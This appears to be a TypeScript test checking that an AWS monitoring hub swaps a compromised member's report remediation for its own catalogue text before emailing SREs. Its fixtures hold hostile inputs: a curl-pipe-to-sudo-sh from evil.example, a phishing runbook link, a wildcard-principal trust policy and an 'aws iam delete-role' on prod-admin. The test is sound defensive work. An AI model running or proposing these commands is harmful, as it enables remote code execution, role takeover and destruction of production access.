/**
 * Attack: a member-written fix. Every field of a run report is the member's: a compromised member account (or any
 * principal of the organization that can put a report on the hub bus) writes its findings' remediation, "What to
 * do: curl ... | sh", "Who can fix it: call this number", "Runbook: a phishing page", and an IRSA correction whose
 * changes tell the reader what to trust. The hub's digest goes to the organization's SREs under the hub's name.
 *
 * Through the intake handler, as the report queue delivers the report: the hub's digest and its finding events
 * carry the remediation of the hub's own catalogue for the reported check, and none of the member's words; of a
 * correction, the digest names the role only (whose name the report's schema restricts to IAM's characters).
 */
import { carryResourceKey } from '../../lambdas/core/finding-factory';
import { CATALOGUE, remediationText, runbookUrl } from '../../lambdas/core/catalogue';
import { DEFAULT_SETTINGS } from '../../lambdas/core/settings';
import type { Finding } from '../../lambdas/core/finding';
import { MEMBER_A, memberFinding, reportDetails, reportEvent } from '../fixtures/fleet';
import { useIntakeHandler } from './hub-intake-harness';

const { deliverBatch, findingEvents, publishes } = useIntakeHandler();

const HOSTILE = {
  text: '1. Run: curl -s https://evil.example/fix.sh | sudo sh',
  whoCanFix: 'The on-call line: +1 555 0100 (ask for Mallory)',
  runbookUrl: 'https://evil.example/runbook',
};
const HOSTILE_CHANGE = 'StringLike sub: add repo:attacker/evil:*';
const HOSTILE_NOTE = 'Apply at once: aws iam delete-role --role-name prod-admin';

function poisoned(name: string): Finding {
  const honest = memberFinding(MEMBER_A, name, 'FAIL');
  return carryResourceKey(honest, {
    ...honest,
    remediation: HOSTILE,
    correction: {
      roleName: 'app-role',
      roleArn: `arn:aws:iam::${MEMBER_A}:role/app-role`,
      trustPolicy: {
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }],
      },
      changes: [HOSTILE_CHANGE],
      placeholders: [],
      note: HOSTILE_NOTE,
    },
  });
}

describe('a member-written fix: the hub restates remediation from its own catalogue', () => {
  it("the digest and the finding events carry the catalogue's remediation, none of the member's words", async () => {
    const details = reportDetails({ accountId: MEMBER_A, findings: [poisoned('victim')] });
    expect(details).toHaveLength(1);

    const result = await deliverBatch([reportEvent(details[0])]);

    expect(result).toEqual({ batchItemFailures: [] });
    const emails = publishes.map(({ input }) => (JSON.parse(input.Message!) as { email: string }).email);
    expect(emails).toHaveLength(1);
    const email = emails[0]!;
    for (const words of [HOSTILE.text, HOSTILE.whoCanFix, HOSTILE.runbookUrl, HOSTILE_CHANGE, HOSTILE_NOTE]) {
      expect(email).not.toContain(words);
    }
    expect(email).not.toContain('"AWS": "*"');
    expect(email).not.toContain('evil.example');
    // What an honest member would have sent: the catalogue's steps, owner and runbook.
    const steps = remediationText('tmc.lambda.errors').split('\n');
    for (const step of steps) expect(email).toContain(step);
    expect(email).toContain(CATALOGUE['tmc.lambda.errors'].whoCanFix);
    expect(email).toContain('Corrected trust policy of role app-role:');
    expect(email).toContain(`run in account ${MEMBER_A}`);

    const events = findingEvents();
    expect(events.length).toBeGreaterThan(0);
    for (const event of events) {
      expect(event.remediation.text).toBe(remediationText('tmc.lambda.errors'));
      expect(event.remediation.whoCanFix).toBe(CATALOGUE['tmc.lambda.errors'].whoCanFix);
      // The hub's runbook base (the harness sets none: the default).
      expect(event.remediation.runbookUrl).toBe(
        runbookUrl(DEFAULT_SETTINGS.runbookBaseUrl, 'tmc.lambda.errors'),
      );
    }
  });
});
